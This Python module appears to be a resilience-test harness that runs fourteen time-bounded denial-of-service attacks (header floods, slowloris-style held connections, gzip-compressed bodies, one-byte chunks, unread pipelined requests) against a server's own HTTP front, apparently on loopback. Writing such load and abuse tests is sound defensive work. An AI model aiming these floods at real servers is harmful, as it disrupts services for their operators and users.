"""What a hostile client does to a front: each attack is bounded in time, and against loopback.

Run as a process of its own, so that it does not slow the one that measures; it prints how often it
did what it does, so that what one time costs the server can be told.
"""

import contextlib
import gzip
import socket
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from urllib.parse import urlsplit

MIB = 1024 * 1024
# What an attacker's line carries, where an attack is not one of small requests.
BYTES_A_SECOND = 25 * MIB
ROUND_SECONDS = 0.1
# What an attacker has a body of, where it is to cost more than its bytes.
EMPTY_OBJECTS = b"[" + b"{}," * (MIB // 3 - 3) + b"{}]"
AT_ONCE = 16
CHUNKED = b"Transfer-Encoding: chunked\r\n"


@dataclass(frozen=True)
class Target:
    """Whom to attack, with which keys, and until when."""

    host: str
    port: int
    client_id: str
    write_key: str
    until: float

    def connect(self) -> socket.socket:
        """Return a connection that gives up soon."""
        return socket.create_connection((self.host, self.port), timeout=2)

    def again(self) -> Iterator[None]:
        """Yield until the time is up."""
        while time.monotonic() < self.until:
            yield


def endless_header(target: Target) -> int:
    """Send a header without an end, on one connection after the other."""
    return _flood(target, b"GET /health HTTP/1.1\r\nx-a: ", b"a" * MIB)


def repeated_headers(target: Target) -> int:
    """Send 60,000 times the same header."""
    return _flood(target, b"GET /health HTTP/1.1\r\n", b"x-a: " + b"b" * 90 + b"\r\n", 60_000)


def pipelined(target: Target) -> int:
    """Send small requests one behind the other and read no answer."""
    return _flood(target, b"", b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" * 50_000)


def half_open(target: Target) -> int:
    """Hold 1,200 connections and send nothing; open what was closed again."""
    return _hold(target, 1_200, b"")


def slow_heads(target: Target) -> int:
    """Hold 1,200 connections with half a head each, and send a byte of it now and then."""
    return _hold(target, 1_200, b"GET /health HTTP/1.1\r\nx-a: ", b"a")


def half_bodies(target: Target) -> int:
    """Hold 200 bodies of 1.4 MiB but for their ends."""
    head = b"POST /post HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % (14 * MIB // 10)
    return _hold(target, 200, head + b"a" * (13 * MIB // 10))


def large_bodies(target: Target) -> int:
    """Hold 200 bodies of 6 MiB but for their ends: more than is read of one."""
    head = b"POST /post HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % (6 * MIB)
    return _hold(target, 200, head + b"a" * (5 * MIB))


def malformed_bodies(target: Target) -> int:
    """Send what is no JSON with a public key and from a foreign page."""
    head = f"POST /batch?client_id={target.client_id} HTTP/1.1\r\nHost: x\r\nOrigin: https://evil.example"
    request = f"{head}\r\nContent-Length: 4000\r\n\r\n{'x' * 4000}".encode()
    return _answered(target, request)


def small_requests(target: Target) -> int:
    """Send what is refused for its key, one request behind the other's answer."""
    head = "\r\n".join(("POST /post HTTP/1.1", "Host: x", "Content-Length: 4", "", ""))
    return _answered(target, f"{head}abcd".encode())


def upgrades(target: Target) -> int:
    """Offer an upgrade with each of the same requests."""
    lines = ("POST /post HTTP/1.1", "Host: x", "Connection: Upgrade", "Upgrade: h2c")
    head = "\r\n".join((*lines, "Content-Length: 4", "", ""))
    return _answered(target, f"{head}abcd".encode())


def packed_bodies(target: Target) -> int:
    """Send, on sixteen connections, 1 MiB of empty objects in the KiB that gzip makes of it."""
    return _at_once(target, gzip.compress(EMPTY_OBJECTS), b"Content-Encoding: gzip\r\n")


def whole_bodies(target: Target) -> int:
    """Send the same as it is, as fast as the line allows."""
    return _at_once(target, EMPTY_OBJECTS, b"")


def tiny_chunks(target: Target) -> int:
    """Send bodies in chunks of a byte each, on sixteen connections, as the line allows."""
    return _at_once(target, b"1\r\na\r\n" * MIB + b"0\r\n\r\n", CHUNKED)


def numbers(target: Target) -> int:
    """Send 1 MiB of names and numbers, which takes long to read, in what gzip makes of it."""
    names = b",".join(b'"%x":1.5' % at for at in range(85_000))
    return _at_once(target, gzip.compress(b"[{" + names + b"}]"), b"Content-Encoding: gzip\r\n")


ATTACKS: dict[str, Callable[[Target], int]] = {
    "endless header": endless_header,
    "60,000 equal headers": repeated_headers,
    "requests without reading": pipelined,
    "1,200 silent connections": half_open,
    "1,200 slow heads": slow_heads,
    "200 half-sent bodies": half_bodies,
    "200 too large bodies": large_bodies,
    "1 MiB in 1 KiB": packed_bodies,
    "1 MiB as it is": whole_bodies,
    "chunks of a byte": tiny_chunks,
    "1 MiB of numbers": numbers,
    "malformed bodies": malformed_bodies,
    "small requests": small_requests,
    "offers to upgrade": upgrades,
}


def _flood(target: Target, start: bytes, piece: bytes, times: int = 100) -> int:
    """Send on one connection after the other; return how many."""
    floods = 0
    for _ in target.again():
        floods += 1
        with contextlib.suppress(OSError), target.connect() as connection:
            connection.sendall(start)
            connection.sendall(piece * times if len(piece) < 1000 else piece)
            for _ in range(times if len(piece) >= 1000 else 0):
                connection.sendall(piece)
    return floods


def _hold(target: Target, number: int, start: bytes, drop: bytes = b"") -> int:
    """Hold connections, and open those again that were closed, as fast as the line allows.

    Return how often one was opened, or a drop sent.
    """
    a_round = max(1, int(BYTES_A_SECOND * ROUND_SECONDS / max(len(start), 20_000)))
    held: list[socket.socket] = []
    done = 0
    for _ in target.again():
        for _ in range(min(a_round, number - len(held))):
            done += 1
            with contextlib.suppress(OSError):
                held.append(target.connect())
                held[-1].sendall(start)
        done += len(held) if drop else 0
        held = [connection for connection in held if _lives(connection, drop)]
        time.sleep(ROUND_SECONDS)
    for connection in held:
        connection.close()
    return done


def _lives(connection: socket.socket, drop: bytes) -> bool:
    connection.setblocking(False)
    try:
        if drop:
            connection.send(drop)
        alive = bool(connection.recv(4096))
    except BlockingIOError:
        return True
    except OSError:
        alive = False
    if not alive:
        connection.close()
    return alive


def _at_once(target: Target, body: bytes, headers: bytes) -> int:
    """Send a body on several connections, each time with its answer; return how often."""
    line = f"POST /batch?client_id={target.client_id} HTTP/1.1\r\nHost: x\r\n".encode()
    length = b"" if headers == CHUNKED else b"Content-Length: %d\r\n" % len(body)
    request = b"%b%b%b\r\n%b" % (line, headers, length, body)
    pause = AT_ONCE * len(request) / BYTES_A_SECOND
    with ThreadPoolExecutor(AT_ONCE) as pool:
        sent = pool.map(lambda _: _answered(target, request, pause), range(AT_ONCE))
        return sum(sent)


def _answered(target: Target, request: bytes, pause: float = 0) -> int:
    """Send one request behind the other's answer, after a pause; return how many."""
    connection, requests = target.connect(), 0
    for _ in target.again():
        requests += 1
        time.sleep(pause)
        try:
            connection.sendall(request)
            if not connection.recv(65536):
                raise ConnectionError  # as if it had been reset
        except OSError:
            connection.close()
            connection = target.connect()
    connection.close()
    return requests


def main(name: str, seconds: str, url: str, client_id: str, write_key: str) -> None:
    """Attack for so many seconds, and print how often."""
    where = urlsplit(url)
    until = time.monotonic() + float(seconds)
    host, port = where.hostname or "127.0.0.1", where.port or 80
    print(ATTACKS[name](Target(host, port, client_id, write_key, until)))
